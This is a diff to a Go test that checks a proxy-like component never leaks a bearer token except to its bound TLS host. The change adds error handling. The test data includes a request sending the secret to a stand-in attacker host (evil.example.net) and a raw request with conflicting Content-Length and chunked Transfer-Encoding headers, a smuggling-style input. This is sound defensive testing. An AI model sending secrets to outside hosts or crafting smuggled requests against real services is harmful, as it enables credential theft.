@@ -29,8 +29,12 @@ func TestSecretNeverLeaks(t *testing.T) {
 			return
 		}
 		defer resp.Body.Close()
-		resp.Header.Write(&seen)
-		io.Copy(&seen, resp.Body)
+		if err := resp.Header.Write(&seen); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := io.Copy(&seen, resp.Body); err != nil {
+			t.Fatal(err)
+		}
 	}
 	auth := map[string]string{"Authorization": "Bearer " + ph, "X-Api-Key": ph}
 	do("GET", "https://api.example.com/v1", auth)
@@ -40,7 +44,8 @@ func TestSecretNeverLeaks(t *testing.T) {
 	do("GET", "http://api.example.com/", auth)
 	do("GET", "https://lo.files.example.com/", auth)
 	do("GET", "http://evil.example.net/?k="+ph, auth)
-	seen.WriteString(h.raw(t, getReq("http://plain.example.com/", "plain.example.com", "Authorization: "+ph+"\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n")).Status)
+	_, reason := h.raw(t, getReq("http://plain.example.com/", "plain.example.com", "Authorization: "+ph+"\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n"))
+	seen.WriteString(string(reason))
 
 	// The value did reach the bound host, on TLS, and only there.
 	if got := h.tlsUp.reqs[0].Header.Get("Authorization"); got != "Bearer "+realToken {
